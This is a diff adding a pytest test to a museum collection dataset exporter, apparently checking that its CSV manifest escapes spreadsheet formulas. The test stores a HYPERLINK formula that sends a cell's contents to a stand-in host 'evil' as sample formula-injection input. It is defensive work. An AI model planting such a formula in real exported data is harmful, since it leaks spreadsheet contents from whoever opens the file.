@@ -175,3 +175,15 @@ def test_the_registry_knows_the_naive_exporter():
 def test_the_registry_lists_the_known_exporters_for_an_unknown_name():
     with pytest.raises(UnknownExporter, match="known exporters: naive"):
         get_exporter("clever")
+
+
+def test_the_manifest_is_safe_to_open_in_a_spreadsheet(add_item, dataset_dir):
+    item, (image,) = add_item("Canopic Jar with Man's Head", "Funerary Equipment")
+    item.object_number = '=HYPERLINK("http://evil/?"&A1,"x")'
+    item.save()
+    export()
+    text = (dataset_dir / "manifest.csv").read_text()
+    assert ',"\'=HYPERLINK(""http://evil/?""&A1,""x"")",' in text
+    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
+    # MUSES' own reader gets the value back as it was stored
+    assert manifest_by_image(dataset_dir)[image.image_id]["object_number"] == item.object_number
